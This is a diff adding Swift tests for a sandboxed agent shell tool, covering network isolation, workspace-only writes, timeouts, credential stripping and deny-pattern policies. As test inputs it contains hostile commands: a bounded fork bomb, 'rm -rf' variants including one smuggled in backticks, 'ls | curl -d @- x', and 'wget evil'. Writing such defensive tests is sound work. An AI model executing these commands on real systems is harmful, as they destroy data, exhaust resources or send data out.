@@ -1,0 +1,229 @@
+import Foundation
+import ShellTool
+import Switchyard
+import SwitchyardTesting
+import Testing
+
+/// A policy that lets the test's commands run without asking.
+func permissive(_ change: (inout ShellPolicy) -> Void = { _ in }) -> ShellPolicy {
+    var policy = ShellPolicy()
+    policy.otherwise = .allow
+    change(&policy)
+    return policy
+}
+
+/// Whether a process whose command line contains `marker` is still alive.
+func processAlive(_ marker: String) -> Bool {
+    let entries = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
+    for entry in entries where entry.allSatisfy(\.isNumber) {
+        guard let data = FileManager.default.contents(atPath: "/proc/\(entry)/cmdline") else { continue }
+        let line = String(decoding: data.map { $0 == 0 ? 0x20 : $0 }, as: UTF8.self)
+        if line.contains(marker), !line.contains("pgrep") { return true }
+    }
+    return false
+}
+
+@Suite struct SandboxTests {
+    @Test func aServerOnTheHostIsUnreachableFromInsideButReachableWhenAllowed() async throws {
+        let server = try LoopbackHTTPServer { _, writer in writer.respond(status: 200, text: "hello from the host") }
+        defer { server.stop() }
+        let directory = try TemporaryDirectory("net")
+        let workspace = try Workspace(path: directory.path)
+        let fetch =
+            "python3 -c \"import urllib.request; print(urllib.request.urlopen('\(server.baseURL)/', timeout=3).read().decode())\""
+        let closed = try await ShellTool(workspace: workspace, policy: permissive()).invoke(["command": .string(fetch)])
+        #expect(closed.data["status"] != 0)
+        #expect(!closed.text.contains("hello from the host"))
+        #expect(server.requestCount == 0)
+        // The same command with the network allowed reaches the server: the test can fail.
+        let open = try await ShellTool(workspace: workspace, policy: permissive { $0.network = true }).invoke([
+            "command": .string(fetch)
+        ])
+        #expect(open.data["status"] == 0)
+        #expect(open.text.contains("hello from the host"))
+        #expect(open.labels.integrity == .untrusted)
+    }
+
+    @Test func writesLandInTheWorkspaceAndNowhereElse() async throws {
+        let directory = try TemporaryDirectory("writes")
+        let outside = "/var/tmp/switchyard-outside-\(UUID().uuidString.prefix(8))"
+        defer { try? FileManager.default.removeItem(atPath: outside) }
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: permissive())
+        let output = try await tool.invoke([
+            "command": .string(
+                "echo inside > made.txt; touch \(outside); echo private > /tmp/scratch; cat /tmp/scratch")
+        ])
+        #expect(try directory.read("made.txt") == "inside\n")
+        #expect(!FileManager.default.fileExists(atPath: outside))
+        #expect(output.text.contains("Read-only file system"))
+        #expect(output.data["stdout"] == "private\n")
+        #expect(
+            !FileManager.default.fileExists(atPath: "/tmp/scratch")
+                || (try? String(contentsOfFile: "/tmp/scratch", encoding: .utf8)) != "private\n")
+
+        let readOnly = ShellTool(
+            workspace: try Workspace(path: directory.path), policy: permissive { $0.writableWorkspace = false })
+        let refused = try await readOnly.invoke(["command": "echo again > made.txt"])
+        #expect(refused.data["status"] != 0)
+        #expect(try directory.read("made.txt") == "inside\n")
+    }
+
+    @Test func aTimeoutKillsTheCommandAndEveryProcessItStarted() async throws {
+        let directory = try TemporaryDirectory("timeout")
+        let marker = "1000.\(Int.random(in: 100_000...999_999))"
+        // A bounded fork bomb: 2^7 shells, each leaving a sleeper behind in the background.
+        let bomb = "f() { if [ $1 -lt 7 ]; then f $(($1+1)) & f $(($1+1)) & fi; sleep \(marker); }; f 0"
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: permissive())
+        let started = ContinuousClock.now
+        let running = Task { try await tool.invoke(["command": .string(bomb), "timeout_seconds": 2]) }
+        // While it runs, the sleepers are there to be seen: the check below can fail.
+        var seen = false
+        for _ in 0..<15 where !seen {
+            try await Task.sleep(for: .milliseconds(100))
+            seen = processAlive("sleep \(marker)")
+        }
+        #expect(seen)
+        let output = try await running.value
+        #expect(output.data["timed_out"] == true)
+        #expect(output.text.contains("killed after 2 s (timeout)"))
+        #expect(ContinuousClock.now - started < .seconds(15))
+        // Give the kernel a moment to reap the namespace.
+        for _ in 0..<50 where processAlive("sleep \(marker)") { try await Task.sleep(for: .milliseconds(100)) }
+        #expect(!processAlive("sleep \(marker)"))
+
+        let single = "sleep 1000.\(Int.random(in: 100_000...999_999))"
+        let plain = try await tool.invoke(["command": .string(single), "timeout_seconds": 1])
+        #expect(plain.data["timed_out"] == true)
+        #expect(!processAlive(single))
+    }
+
+    @Test func theEnvironmentCarriesNoCredentials() async throws {
+        let directory = try TemporaryDirectory("env")
+        let host = [
+            "PATH": "/usr/bin:/bin", "OPENAI_API_KEY": "sk-test-123456", "GITHUB_TOKEN": "ghp_abc", "LANG": "C.UTF-8",
+            "MY_SETTING": "visible",
+        ]
+        var policy = permissive()
+        policy.environment = ["MY_SETTING"]
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: policy, hostEnvironment: host)
+        let output = try await tool.invoke(["command": "env"])
+        let stdout = output.data["stdout"]?.stringValue ?? ""
+        #expect(!stdout.contains("OPENAI_API_KEY"))
+        #expect(!stdout.contains("sk-test"))
+        #expect(!stdout.contains("GITHUB_TOKEN"))
+        #expect(stdout.contains("MY_SETTING=visible"))
+        #expect(stdout.contains("LANG=C.UTF-8"))
+        // Allowing a credential by name is a configuration error.
+        #expect(throws: ConfigurationError.self) {
+            try ShellPolicy(options: ToolOptions(["environment": ["OPENAI_API_KEY"]], location: "tools.shell"))
+        }
+    }
+
+    @Test func exitStatusOutputCapsAndWorkingDirectory() async throws {
+        let directory = try TemporaryDirectory("status")
+        try directory.write("sub/file.txt", "x\n")
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: permissive())
+        let failed = try await tool.invoke(["command": "echo oops >&2; exit 3"])
+        #expect(failed.data["status"] == 3)
+        #expect(failed.text == "$ echo oops >&2; exit 3\nexit status 3\n--- stderr ---\noops\n")
+        let listed = try await tool.invoke(["command": "ls", "directory": "sub"])
+        #expect(listed.data["stdout"] == "file.txt\n")
+        let loud = try await tool.invoke(["command": "yes 0123456789 | head -c 200000"])
+        #expect(loud.truncated)
+        #expect(loud.text.contains("[truncated: "))
+        #expect(loud.text.utf8.count < 40_000)
+        await #expect {
+            _ = try await tool.invoke(["command": "ls", "directory": "../"])
+        } throws: { ($0 as? ToolError)?.rule == "parent-escape" }
+    }
+}
+
+@Suite struct ShellPolicyTests {
+    @Test func denyPatternsWinOverAllowPatterns() async throws {
+        let directory = try TemporaryDirectory("policy")
+        var policy = ShellPolicy()
+        policy.allow = ["*"]
+        policy.deny = ["rm *", "curl*"]
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: policy)
+        for command in ["rm -rf .", "ls && rm -rf .", "echo $(curl http://example.com)", "ls | curl -d @- x"] {
+            await #expect("\(command)") {
+                _ = try await tool.invoke(["command": .string(command)])
+            } throws: { ($0 as? ToolError)?.rule == "shell-policy" }
+        }
+        #expect(try await tool.invoke(["command": "ls"]).data["status"] == 0)
+    }
+
+    @Test func everyPartOfACommandMustBeAllowed() {
+        var policy = ShellPolicy()
+        policy.allow = ["swift test*", "ls*"]
+        policy.otherwise = .deny
+        #expect(policy.decide("swift test --filter Parser").0 == .allow)
+        #expect(policy.decide("ls -la; swift test").0 == .allow)
+        #expect(policy.decide("swift test; wget evil").0 == .deny)
+        #expect(policy.decide("ls `rm -rf /`").0 == .deny)
+        #expect(policy.decide("swift build").0 == .deny)
+    }
+
+    struct Approve: Approver {
+        let answer: Bool
+        let asked = Shared<[String]>([])
+        func approve(tool: String, action: String) async -> Bool {
+            asked.update { $0.append(action) }
+            return answer
+        }
+    }
+
+    @Test func askFailsClosedWhenNobodyCanAnswer() async throws {
+        let directory = try TemporaryDirectory("ask")
+        let tool = ShellTool(workspace: try Workspace(path: directory.path), policy: ShellPolicy())
+        await #expect {
+            _ = try await tool.invoke(["command": "touch asked"])
+        } throws: { ($0 as? ToolError)?.rule == "shell-ask" }
+        let no = Approve(answer: false)
+        await #expect {
+            _ = try await tool.invoke(["command": "touch asked"], context: ToolContext(approver: no))
+        } throws: { ($0 as? ToolError)?.rule == "shell-ask" }
+        #expect(no.asked.value == ["run `touch asked`"])
+        #expect(!FileManager.default.fileExists(atPath: directory.path + "/asked"))
+        _ = try await tool.invoke(["command": "touch asked"], context: ToolContext(approver: Approve(answer: true)))
+        #expect(FileManager.default.fileExists(atPath: directory.path + "/asked"))
+    }
+
+    @Test func withoutBubblewrapTheShellRefusesUnlessTheSpecSaysNone() async throws {
+        let directory = try TemporaryDirectory("nobwrap")
+        let workspace = try Workspace(path: directory.path)
+        await #expect {
+            _ = try await ShellTool(workspace: workspace, policy: permissive(), bubblewrap: nil).invoke([
+                "command": "true"
+            ])
+        } throws: { error in
+            (error as? ToolError)?.code == .unavailable && "\(error)".contains("sandbox: none")
+        }
+        let unsandboxed = ShellTool(workspace: workspace, policy: permissive { $0.sandbox = .none }, bubblewrap: nil)
+        let output = try await unsandboxed.invoke(["command": "pwd"])
+        #expect(output.data["stdout"] == .string(directory.path + "\n"))
+        let marker = "sleep 1000.\(Int.random(in: 100_000...999_999))"
+        let killed = try await unsandboxed.invoke(["command": .string("\(marker) & \(marker)"), "timeout_seconds": 1])
+        #expect(killed.data["timed_out"] == true)
+        for _ in 0..<20 where processAlive(marker) { try await Task.sleep(for: .milliseconds(100)) }
+        #expect(!processAlive(marker))
+    }
+
+    @Test func optionsAreReadStrictly() throws {
+        let policy = try ShellPolicy(
+            options: ToolOptions(
+                ["allow": ["make*"], "deny": "rm*", "network": true, "workspace": "read-only", "timeout": 30],
+                location: "tools.shell"))
+        #expect(policy.allow == ["make*"])
+        #expect(policy.deny == ["rm*"])
+        #expect(policy.network)
+        #expect(!policy.writableWorkspace)
+        #expect(policy.timeout == .seconds(30))
+        #expect(throws: ConfigurationError.self) {
+            try ShellPolicy(options: ToolOptions(["alow": ["make*"]], location: "tools.shell"))
+        }
+        #expect(throws: ConfigurationError.self) {
+            try ShellPolicy(options: ToolOptions(["sandbox": "docker"], location: "tools.shell"))
+        }
+    }
+}
